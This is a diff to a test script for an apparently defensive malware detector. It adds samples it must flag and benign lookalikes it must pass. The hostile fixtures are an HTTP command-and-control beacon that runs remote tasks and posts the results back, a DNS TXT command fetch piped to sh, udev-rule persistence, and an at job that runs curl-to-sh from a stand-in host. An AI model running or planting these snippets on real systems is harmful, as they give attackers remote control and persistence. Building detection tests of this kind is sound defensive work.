@@ -132,6 +132,29 @@ chmod +x /etc/init.d/netcheck
 update-rc.d netcheck defaults
 EOF
 
+cat >"$t/mal/beacon.sh" <<'EOF'
+#!/bin/sh
+while true; do
+	job=$(curl -fs http://192.0.2.10/task)
+	res=$(eval "$job" 2>&1)
+	curl -fs -d "$res" http://192.0.2.10/result
+	sleep 30
+done
+EOF
+cat >"$t/mal/txt.sh" <<'EOF'
+#!/bin/sh
+dig +short TXT cmd.example.invalid | tr -d '"' | base64 -d | sh
+EOF
+cat >"$t/mal/udev.sh" <<'EOF'
+#!/bin/sh
+echo 'ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c /var/tmp/.n/up"' > /etc/udev/rules.d/75-net.rules
+udevadm control --reload
+EOF
+cat >"$t/mal/at.sh" <<'EOF'
+#!/bin/sh
+echo "curl -s http://192.0.2.10/a | sh" | at now + 2 minutes
+EOF
+
 cat >"$t/ben/probe.sh" <<'EOF'
 #!/bin/sh
 for port in 22 80 443; do
@@ -178,6 +201,20 @@ func main() {
 }
 EOF
 
+cat >"$t/ben/usb.sh" <<'EOF'
+#!/bin/sh
+echo 'SUBSYSTEM=="usb", ATTR{idVendor}=="2341", MODE="0666"' > /etc/udev/rules.d/99-board.rules
+udevadm control --reload-rules
+EOF
+cat >"$t/ben/wait.sh" <<'EOF'
+#!/bin/sh
+while true; do
+	state=$(curl -fs http://127.0.0.1:8080/health)
+	[ "$state" = ok ] && break
+	sleep 1
+done
+EOF
+
 "$AIRLOCK" analyze --json "$t/mal" "$t/ben" >"$t/report.json" 2>"$t/err"
 expect_eq "analyze-exit-1" 1 $?
 python3 - "$t/report.json" <<'PY'
@@ -201,13 +238,17 @@ want = {
     "bind.php": ("php_socket_command_loop", "T1095"),
     "cron-file.sh": ("linux_cron_file_persistence", "T1053.003"),
     "initd.sh": ("linux_initd_persistence", "T1037"),
+    "beacon.sh": ("shell_http_command_loop", "T1071.001"),
+    "txt.sh": ("shell_dns_txt_command", "T1071.004"),
+    "udev.sh": ("linux_udev_persistence", "T1546.017"),
+    "at.sh": ("linux_at_job_persistence", "T1053.002"),
 }
 for name, (rule, tid) in sorted(want.items()):
     n = files.get(name)
     got = {x["rule"]: x["attack"] for x in n["findings"]} if n else {}
     ok = n is not None and n["verdict"] != "clean" and rule in got and tid in got[rule]
     print(("PASS: %s" if ok else "FAIL: %s: " + (n["verdict"] + " " + ",".join(got) if n else "missing")) % ("found-" + name))
-for name in ("probe.sh", "status_server.py", "harden.sh", "hook.go"):
+for name in ("probe.sh", "status_server.py", "harden.sh", "hook.go", "usb.sh", "wait.sh"):
     n = files.get(name)
     ok = n is not None and n["verdict"] == "clean"
     print(("PASS: %s" if ok else "FAIL: %s: " + (n["verdict"] + " " + ",".join(x["rule"] for x in n["findings"]) if n else "missing")) % ("clean-" + name))
